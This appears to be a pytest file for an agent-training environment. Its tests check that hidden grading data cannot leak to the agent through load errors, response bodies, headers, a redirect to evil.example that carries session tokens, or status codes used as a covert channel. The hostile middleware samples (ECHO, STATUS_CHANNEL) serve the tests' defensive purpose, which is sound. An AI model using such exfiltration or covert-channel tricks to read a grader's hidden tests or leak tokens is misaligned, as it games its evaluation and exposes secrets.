"""Attacks on what grading hides: one test per attack class, named after the attack.

Nothing produced under a grading's shadow data (fresh users, records and tokens, see
``envcore/verifier/shadow.py``) may reach an observation, an error text or a log: not a load error
that prints the shadow's data, not a response body that echoes it, not a header or a redirect that
carries it. And the hidden suite of a test-split scenario (its requests, users, tokens) is shown in
words only, wherever a report is stored or shown.
"""

from __future__ import annotations

import json
import textwrap

import pytest

from envcore.patching import apply_patch
from envcore.sandbox import SandboxLimits, supported_platform
from envcore.scenario.probes import ProbeKind
from envcore.verifier import grading_data, verify
from envcore.verifier.disclosure import disclose, disclosure_for
from envcore.verifier.verify import SHADOW_LOAD_ERROR
from tests.sandbox_kit import sandbox_fixture

pytestmark = pytest.mark.skipif(supported_platform() is not None, reason="the sandbox is Linux only")

LIMITS = SandboxLimits(request_timeout_s=2, load_timeout_s=4, verify_timeout_s=20, cpu_s=5, memory_mb=160)

sb = sandbox_fixture(LIMITS)


@pytest.fixture(scope="module")
def target(bundle_for):
    """A generated single-file scenario (``app.py`` reads ``SEED_FILE`` at import) with a hidden probe."""
    for seed in range(60):
        bundle = bundle_for(seed)
        if bundle.entrypoint == "app:app" and "SEED_FILE" in bundle.files["app.py"] and \
                any(not p.visible for p in bundle.probes) and bundle.bug_class in ("idor_read", "idor_write"):
            return bundle
    pytest.skip("no single-file scenario among the first 60 seeds")  # pragma: no cover


def at_import(files: dict[str, str], code: str) -> dict[str, str]:
    return {**files, "app.py": files["app.py"] + "\n\n" + textwrap.dedent(code).strip() + "\n"}


def shadow_values(data) -> set[str]:
    assert data.shadow, "the scenario must be graded on shadow data"
    return set(data.substitution.mapping.values())


def leaked(report, data) -> list[str]:
    text = report.model_dump_json()
    return sorted(v for v in shadow_values(data) if v in text)


def test_a_load_error_under_shadow_data_is_reported_from_the_data_the_agent_sees(sb, target):
    files = at_import(target.files, "raise RuntimeError(SEED_FILE.read_text()[:3000])")
    data = grading_data(target)
    report = verify(target, files, sandbox=sb, shadow=data)
    assert report.outcome == "load_error" and report.reward == 0.0
    assert leaked(report, data) == []
    assert target.users[0].username in report.load_error  # the error the agent can reproduce, on its own data


def test_a_load_error_only_under_shadow_data_is_reported_without_its_text(sb, target):
    known = target.users[0].username
    files = at_import(target.files, f"""
        if {known!r} not in SEED_FILE.read_text():
            raise RuntimeError("grading data: " + SEED_FILE.read_text()[:3000])
    """)
    data = grading_data(target)
    report = verify(target, files, sandbox=sb, shadow=data)
    assert report.outcome == "load_error"
    assert report.load_error == SHADOW_LOAD_ERROR and leaked(report, data) == []


ECHO = """
@app.middleware("http")
async def _echo_everything(request, call_next):
    from starlette.responses import JSONResponse
    seed = SEED_FILE.read_text()
    tokens = [s["token"] for s in __import__("json").loads(seed)["sessions"]]
    return JSONResponse({"seed": seed, "username": seed, "role": seed}, status_code=200,
                        headers={"location": "https://evil.example/" + ",".join(tokens), "x-seed": tokens[0]})
"""
"""Answers every request with the whole data file, in the body, in a redirect and in a header."""


def test_nothing_the_app_says_under_shadow_data_reaches_the_report(sb, target):
    for files in (at_import(target.files, ECHO), at_import(apply_patch(target.files, target.reference_fix), ECHO)):
        data = grading_data(target)
        report = verify(target, files, sandbox=sb, shadow=data)
        assert report.outcome == "graded"
        assert leaked(report, data) == []
        assert all(got in ("served", "refused", "redirected", "server error", "no answer")
                   for probe in report.probes for got in probe.got), [probe.got for probe in report.probes]


STATUS_CHANNEL = """
@app.middleware("http")
async def _status_channel(request, call_next):
    # every request's line, method and caller, folded into the status code and echoed in headers
    import zlib
    from starlette.responses import PlainTextResponse
    line = request.method + " " + str(request.url) + " " + request.headers.get("authorization", "")
    code = 250 + zlib.crc32(line.encode()) % 50
    response = await call_next(request)
    if response.status_code < 300:
        return PlainTextResponse("CHANNEL " + line, status_code=code, headers={"x-line": line[:200]})
    return PlainTextResponse("CHANNEL " + line, status_code=460 + zlib.crc32(line.encode()) % 40)
"""
"""Encodes each request it receives in its status code (250-299 where it serves, 460-499 where it
refuses): an app-controlled value that a report quoting the app's answers would carry out."""


def test_a_patch_that_encodes_each_request_in_its_status_code_learns_nothing_from_the_report(sb, target):
    import re

    unusual = re.compile(r"\b(2[5-9]\d|4[6-9]\d)\b")
    for files in (at_import(target.files, STATUS_CHANNEL),
                  at_import(apply_patch(target.files, target.reference_fix), STATUS_CHANNEL)):
        report = verify(target, files, sandbox=sb)
        assert report.outcome == "graded"
        for split in ("train", "test"):
            shown = disclose(report, target, disclosure_for(split))
            for probe in shown.probes:
                text = " ".join((*probe.got, *probe.failures))
                assert not unusual.search(text) and "CHANNEL" not in text, (split, probe.probe_id, text)
                assert set(probe.got) <= {"served", "refused", "redirected", "server error", "no answer"}, probe.got
    run_tests = verify(target, at_import(target.files, STATUS_CHANNEL), sandbox=sb, probe_set="visible")
    assert any(unusual.search(" ".join(p.got)) for p in run_tests.probes)  # its own visible probes: as they were


def test_a_shadow_report_names_the_users_the_agent_knows(sb, target):
    data = grading_data(target)
    report = verify(target, target.files, sandbox=sb, shadow=data)
    expected = " ".join(" ".join(p.expected) for p in report.probes)
    actors = {step.actor for probe in target.probes for step in probe.steps if step.actor}
    assert actors and all(actor in expected for actor in actors)
    assert leaked(report, data) == []


def test_the_hidden_suite_of_a_test_split_scenario_is_shown_in_words_only(sb, target):
    report = verify(target, target.files, sandbox=sb)
    shown = disclose(report, target, disclosure_for("test"))
    hidden = [p for p in target.probes if not p.visible]
    text = shown.model_dump_json()
    for probe in hidden:
        for step in probe.steps:
            assert step.path not in text or any(step.path == v.steps[0].path for v in target.visible_probes), step.path
    tokens = [u.token for u in target.users]
    assert not any(token in text for token in tokens)
    by_id = {p.probe_id: p for p in shown.probes}
    for probe in hidden:
        result = by_id[probe.id]
        assert result.expected == (probe.title,)
        assert result.passed or (len(result.failures) == 1 and "/" not in result.failures[0])
    failed_security = [by_id[p.id] for p in hidden if p.kind == ProbeKind.SECURITY and not by_id[p.id].passed]
    assert failed_security and failed_security[0].failures[0].startswith("the exploit was not refused")
    assert (shown.security, shown.regression, shown.trap, shown.reward) == \
        (report.security, report.regression, report.trap, report.reward)
    for split in ("train", "val"):
        assert disclose(report, target, disclosure_for(split)) == report
    assert disclosure_for(None) == "words"
    assert json.loads(text)["resolution"] == report.resolution.value


def test_an_episode_that_echoes_its_data_shows_no_shadow_value_anywhere(tmp_path, sb):
    """Through the environment, as an agent plays: a patch that answers every request with its whole
    data file (and prints it when it fails to load), run_tests, submit; no observation, state or log
    record carries a value of the episode's grading shadow."""
    from envcore.cache import ScenarioCache
    from envcore.env.environment import A01Environment, Runtime
    from envcore.env.episode_log import EpisodeLogger, read_episodes
    from envcore.env.sampler import CurriculumSampler

    log = tmp_path / "episodes.jsonl"
    cache = ScenarioCache.open(None)
    runtime = Runtime(sampler=CurriculumSampler(cache), sandbox=sb, logger=EpisodeLogger(log))
    env = A01Environment(runtime)
    try:
        scenario = next(s for s in cache.ids(split="train") if cache.load(s).entrypoint == "app:app"
                        and "SEED_FILE" in cache.load(s).files["app.py"])
        seen = [env.reset(scenario=scenario).model_dump_json()]
        bundle = env.episode.bundle
        code = bundle.files["app.py"] + "\n" + ECHO.strip() + "\n"
        seen.append(env.step({"tool": "edit_file", "path": "app.py", "search": bundle.files["app.py"],
                              "replace": code}).model_dump_json())
        seen.append(env.step({"tool": "run_tests"}).model_dump_json())
        seen.append(env.step({"tool": "http_request", "path": "/api/status"}).model_dump_json())
        final = env.step({"tool": "submit"})
        seen += [final.model_dump_json(), env.state.model_dump_json()]
        values = set(env.episode.grading.substitution.mapping.values())
        assert values and final.done and final.reward is not None
    finally:
        env.close()
    seen += [line for line in log.read_text().splitlines()]
    [record] = read_episodes(log)
    assert record.verification is not None
    for text in seen:
        assert not any(value in text for value in values), [v for v in values if v in text][:5]
